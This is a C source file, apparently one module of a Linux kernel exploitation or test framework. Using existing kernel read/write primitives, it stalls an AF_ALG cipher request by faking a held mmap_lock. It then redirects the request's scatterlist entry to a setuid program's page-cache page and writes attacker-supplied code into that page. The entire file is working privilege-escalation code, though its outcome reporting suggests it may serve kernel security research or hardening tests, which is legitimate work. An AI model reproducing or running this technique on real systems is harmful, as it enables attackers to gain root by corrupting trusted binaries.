// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel encrypts what a process has sent to a socket, into its buffers. Which pages
 * these are, a scatterlist says, which is ordinary memory. Between the first buffer and
 * the second the kernel waits for the process' mmap_lock, as long as that looks held.
 */
#include <linux/if_alg.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "list.h"
#include "objects.h"
#include "page_cache.h"

#define STACK_WORDS	4096
#define REQUEST_SIZE	512	/* of struct af_alg_async_req, as far as its first buffer */
#define PAGE_BITS	3UL	/* of a page in a scatterlist */
#define HELD		1UL
#define WAITS		200000	/* microseconds */

static struct {
	volatile bool ready, go;
	uint64_t page;		/* of the first buffer */
} *shared;

/* A cipher that changes nothing: what is sent comes out. */
static int open_cipher(void)
{
	struct sockaddr_alg name = {
		.salg_family = AF_ALG, .salg_type = "skcipher", .salg_name = "ecb(cipher_null)",
	};
	int fd = socket(AF_ALG, SOCK_SEQPACKET, 0);

	if (fd < 0 || bind(fd, (void *)&name, sizeof(name)))
		return -1;
	setsockopt(fd, SOL_ALG, ALG_SET_KEY, "", 0);
	return accept(fd, NULL, 0);
}

static char *new_page(bool there)
{
	return mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS | (there ? MAP_POPULATE : 0), -1, 0);
}

/* One byte more than the code goes to the second buffer. */
static void encrypt(int cipher)
{
	char code[MAX_CODE + 1] = { 0 };
	struct iovec vec[] = {
		{ new_page(true) + CODE_OFFSET, program.size }, { new_page(false), 1 },
	};
	struct msghdr message = { .msg_iov = vec, .msg_iovlen = 2 };
	struct slot slot;

	memcpy(code, program.evil, program.size);
	if (kwalk((uint64_t)vec[0].iov_base, LEAF, 0, &slot) ||
	    send(cipher, code, program.size + 1, 0) != (ssize_t)program.size + 1)
		_exit(1);
	shared->page = slot.page;
	shared->ready = true;
	while (!shared->go)
		;
	_exit(recvmsg(cipher, &message, 0) != (ssize_t)program.size + 1);
}

/* An entry of a scatterlist: a page, with two bits beside, where in it, and how much. */
static uint64_t find_entry(uint64_t from)
{
	uint64_t words[REQUEST_SIZE / sizeof(uint64_t)], bytes = CODE_OFFSET | program.size << 32;
	size_t i;

	if (!is_kernel_address(from) || kread(from, words, sizeof(words)))
		return 0;
	for (i = 0; i + 1 < REQUEST_SIZE / sizeof(*words); i++)
		if ((words[i] & ~PAGE_BITS) == shared->page && words[i + 1] == bytes)
			return from + i * sizeof(*words);
	return 0;
}

/* The request is known to whoever waits, by his stack. */
static uint64_t find_buffer(const struct task *task)
{
	static uint64_t words[STACK_WORDS];
	uint64_t at = 0;
	size_t i;

	if (task->stack_size > sizeof(words) || kread(task->stack, words, task->stack_size))
		return 0;
	for (i = 0; i < task->stack_size / sizeof(*words) && !at; i++)
		at = find_entry(words[i]);
	return at;
}

static int turn_buffer(const struct task *task)
{
	uint64_t at = find_buffer(task);

	return at ? kwrite64(at, program.page | (kread64(at) & PAGE_BITS)) : -1;
}

/* Whoever takes the lock when it is free wakes those who waited. */
static void let_go(pid_t pid, uint64_t lock)
{
	char byte;
	struct iovec here = { &byte, 1 }, there = { shared, 1 };

	kwrite64(lock, kread64(lock) & ~HELD);
	process_vm_readv(pid, &here, 1, &there, 1, 0);
}

enum outcome crypto_page(void)
{
	int cipher = open_cipher(), err;
	struct task task;
	uint64_t lock;
	pid_t pid;

	if (cipher < 0)
		return skipped("the kernel encrypts nothing for users");
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (!open_program() || shared == MAP_FAILED)
		return broken("cannot map %s, or no page found", SETUID_PROGRAM);
	pid = fork();
	if (!pid)
		encrypt(cipher);
	if (!wait_for_flag(&shared->ready) || ktask(pid, &task))
		return broken("nobody to encrypt");
	lock = find_mmap_lock(task.mm);
	kwrite64(lock, kread64(lock) | HELD);
	shared->go = true;
	usleep(WAITS);
	ktask(pid, &task);
	err = turn_buffer(&task);
	let_go(pid, lock);
	waitpid(pid, NULL, 0);
	return err == -1 ? broken("nobody waited with the buffer") : judge_page(err);
}
